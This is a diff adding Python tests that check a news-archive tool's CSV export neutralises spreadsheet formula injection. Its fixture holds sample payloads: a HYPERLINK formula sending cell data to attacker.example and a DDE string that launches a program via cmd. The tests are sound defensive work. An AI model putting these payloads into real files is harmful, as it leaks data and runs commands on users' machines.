@@ -180,3 +180,57 @@ async def test_http_exports_stream(client: httpx.AsyncClient, archive: Archive) 
     assert warc.headers["content-type"] == "application/warc"
     assert len(list(ArchiveIterator(io.BytesIO(warc.content)))) == 6
     assert (await client.get("/export/planets.jsonl")).status_code == 400
+
+
+FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
+
+
+def _record_formula_text(store: Store) -> None:
+    """An article whose text and title a spreadsheet would run as formulas."""
+    from newstrail.extract.records import Extracted
+    from newstrail.versions.recording import Capture, record_capture
+
+    extracted = Extracted(
+        title="+cmd|' /C calc'!A0",
+        author="@SUM(1+1)",
+        date=None,
+        site=None,
+        text=FORMULA,
+        url=None,
+        language="en",
+        extractor="test/1",
+    )
+    record_capture(
+        store,
+        Capture(
+            url="https://example.org/formula",
+            extracted=extracted,
+            origin="import:text",
+            captured_at=datetime(2024, 1, 1, tzinfo=UTC),
+        ),
+    )
+
+
+def test_csv_cells_that_spreadsheets_run_are_neutralised(store: Store, tmp_path: Path) -> None:
+    _record_formula_text(store)
+    write_records(store, "versions", tmp_path / "v.csv", output_format="csv")
+    with (tmp_path / "v.csv").open(newline="") as file:
+        (row,) = list(csv.DictReader(file))
+    assert row["text"] == "'" + FORMULA
+    assert row["title"] == "'+cmd|' /C calc'!A0" and row["byline"] == "'@SUM(1+1)"
+    assert row["number"] == "1"  # numbers stay numbers
+    # The JSON Lines export keeps the stored text exactly.
+    (record,) = [json.loads(line) for line in export_jsonl(store, "versions")]
+    assert record["text"] == FORMULA
+
+
+@pytest.mark.anyio
+async def test_http_csv_export_is_neutralised_too(store: Store) -> None:
+    _record_formula_text(store)
+    transport = httpx.ASGITransport(app=create_app(store, Settings()))
+    async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as client:
+        response = await client.get("/export/versions.csv")
+    (row,) = list(csv.DictReader(io.StringIO(response.text)))
+    assert row["text"] == "'" + FORMULA and not any(
+        value.startswith(("=", "+", "-", "@")) for value in row.values()
+    )
